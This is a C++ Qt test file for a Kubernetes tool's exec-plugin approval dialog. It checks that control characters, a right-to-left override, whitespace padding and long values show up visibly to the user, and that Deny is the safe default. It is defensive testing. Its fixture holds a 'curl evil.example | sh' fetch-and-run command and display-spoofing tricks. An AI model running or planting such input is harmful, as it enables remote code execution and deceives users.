// The exec-plugin approval dialog, driven offscreen: the program resolved to
// an absolute path in its own field, one argument or environment entry a
// line with whitespace and control characters visible and long values
// capped, Deny remembered only when asked, Esc a one-time deny.

#include "common/visibletext.h"
#include "kube/credentials.h"
#include "kube/execapprovaldialog.h"

#include <QApplication>
#include <QCheckBox>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QStandardPaths>
#include <QTest>

using namespace labdeck;

namespace {

struct Answers
{
    QList<QPair<bool, bool>> given;
};

kube::ExecApprovalRequest hostileRequest()
{
    kube::ExecApprovalRequest r;
    r.kubeconfigFile = QStringLiteral("/home/me/.kube/config");
    r.context = QStringLiteral("prod");
    r.user = QStringLiteral("admin");
    r.command = QStringLiteral("sh");
    r.program = kube::CredentialProvider::resolveProgram(r.command);
    r.arguments = {QStringLiteral("-c"), QStringLiteral("curl evil.example | sh\x1b[8m hidden"),
                   QStringLiteral("tab\there"), QString(QChar(0x202e)) + QStringLiteral("gnp.exe")};
    // Padding that pushed the program off a one-line view.
    r.environment = {
        {QStringLiteral("PAD"), QStringLiteral("   x") + QString(500, QLatin1Char(' '))},
        {QStringLiteral("AWS_PROFILE"), QStringLiteral("prod")}};
    return r;
}

ExecApprovalDialog *openDialog(const kube::ExecApprovalRequest &request, Answers *answers)
{
    askExecApproval(nullptr, request, [answers](bool allowed, bool remember) {
        answers->given << qMakePair(allowed, remember);
    });
    for (QWidget *w : QApplication::topLevelWidgets()) {
        if (auto *d = qobject_cast<ExecApprovalDialog *>(w); d && d->isVisible())
            return d;
    }
    return nullptr;
}

} // namespace

class TestExecApprovalUi : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void visibleText()
    {
        QCOMPARE(VisibleText::escape(QStringLiteral("a\x1b[2Jb\u202e\tc\nd")),
                 QStringLiteral("a\\x1b[2Jb\\u202e\\tc\\nd"));
        QCOMPARE(VisibleText::escape(QStringLiteral("日本語 ok")), QStringLiteral("日本語 ok"));
        QCOMPARE(VisibleText::forReview(QStringLiteral("  two  words ")),
                 QStringLiteral("··two  words·"));
        QCOMPARE(VisibleText::forReview(QStringLiteral("a\\x1b")), QStringLiteral("a\\\\x1b"));
        QCOMPARE(VisibleText::forReview(QStringLiteral("no\u00a0break\u3000")),
                 QStringLiteral("no\\xa0break\\u3000"));
        QCOMPARE(VisibleText::forReview(QStringLiteral("abcdefghij"), 4),
                 QStringLiteral("abcd… (6 more characters)"));
    }

    void showsEachPartOnItsOwnLine()
    {
        Answers answers;
        const kube::ExecApprovalRequest request = hostileRequest();
        QVERIFY(!request.program.isEmpty());
        QVERIFY(request.program.startsWith(QLatin1Char('/')));
        ExecApprovalDialog *d = openDialog(request, &answers);
        QVERIFY(d);
        QCOMPARE(d->findChild<QLineEdit *>(QStringLiteral("program"))->text(), request.program);
        auto *details = d->findChild<QPlainTextEdit *>(QStringLiteral("details"));
        QVERIFY(details->isReadOnly());
        QCOMPARE(details->lineWrapMode(), QPlainTextEdit::WidgetWidth);
        const QStringList lines = details->toPlainText().split(QLatin1Char('\n'));
        QVERIFY2(lines.contains(QStringLiteral("  -c")), qPrintable(lines.join('\n')));
        QVERIFY2(lines.contains(QStringLiteral("  curl evil.example | sh\\x1b[8m hidden")),
                 qPrintable(lines.join('\n')));
        QVERIFY2(lines.contains(QStringLiteral("  tab\\there")), qPrintable(lines.join('\n')));
        QVERIFY2(lines.contains(QStringLiteral("  \\u202egnp.exe")), qPrintable(lines.join('\n')));
        QVERIFY2(lines.contains(QStringLiteral("  AWS_PROFILE=prod")),
                 qPrintable(lines.join('\n')));
        // The padded value: leading spaces visible, capped, the rest counted.
        const QString pad = lines.filter(QStringLiteral("PAD=")).value(0);
        QVERIFY2(pad.startsWith(QStringLiteral("  PAD=···x")), qPrintable(pad));
        QVERIFY2(pad.endsWith(QStringLiteral("… (204 more characters)")), qPrintable(pad));
        for (const QChar c : details->toPlainText())
            QVERIFY(c == QLatin1Char('\n') || !VisibleText::isHidden(c.unicode()));
        d->findChild<QPushButton *>(QStringLiteral("allow"))->click();
        QCOMPARE(answers.given, (QList<QPair<bool, bool>>{{true, false}}));
    }

    void escIsAOneTimeDeny()
    {
        Answers answers;
        ExecApprovalDialog *d = openDialog(hostileRequest(), &answers);
        QVERIFY(d);
        d->findChild<QCheckBox *>(QStringLiteral("remember"))->setChecked(true);
        QTest::keyClick(d, Qt::Key_Escape);
        QCOMPARE(answers.given, (QList<QPair<bool, bool>>{{false, false}}));
        QTRY_VERIFY(!d->isVisible());
    }

    void denyIsRememberedOnlyWhenTicked()
    {
        Answers once;
        ExecApprovalDialog *d = openDialog(hostileRequest(), &once);
        QVERIFY(d);
        // Deny is the default button: Enter denies, and only this time.
        QVERIFY(d->findChild<QPushButton *>(QStringLiteral("deny"))->isDefault());
        d->findChild<QPushButton *>(QStringLiteral("deny"))->click();
        QCOMPARE(once.given, (QList<QPair<bool, bool>>{{false, false}}));

        Answers remembered;
        d = openDialog(hostileRequest(), &remembered);
        QVERIFY(d);
        d->findChild<QCheckBox *>(QStringLiteral("remember"))->setChecked(true);
        d->findChild<QPushButton *>(QStringLiteral("deny"))->click();
        QCOMPARE(remembered.given, (QList<QPair<bool, bool>>{{false, true}}));

        Answers always;
        d = openDialog(hostileRequest(), &always);
        QVERIFY(d);
        d->findChild<QCheckBox *>(QStringLiteral("remember"))->setChecked(true);
        d->findChild<QPushButton *>(QStringLiteral("allow"))->click();
        QCOMPARE(always.given, (QList<QPair<bool, bool>>{{true, true}}));
    }

    void programNotOnPath()
    {
        kube::ExecApprovalRequest r = hostileRequest();
        r.command = QStringLiteral("no-such-plugin-labdeck");
        r.program = kube::CredentialProvider::resolveProgram(r.command);
        QVERIFY(r.program.isEmpty());
        Answers answers;
        ExecApprovalDialog *d = openDialog(r, &answers);
        QVERIFY(d);
        QVERIFY(d->findChild<QLineEdit *>(QStringLiteral("program"))
                    ->text()
                    .contains(QLatin1String("not found")));
        d->close();
        QCOMPARE(answers.given, (QList<QPair<bool, bool>>{{false, false}}));
    }
};

QTEST_MAIN(TestExecApprovalUi)
#include "tst_execapprovalui.moc"
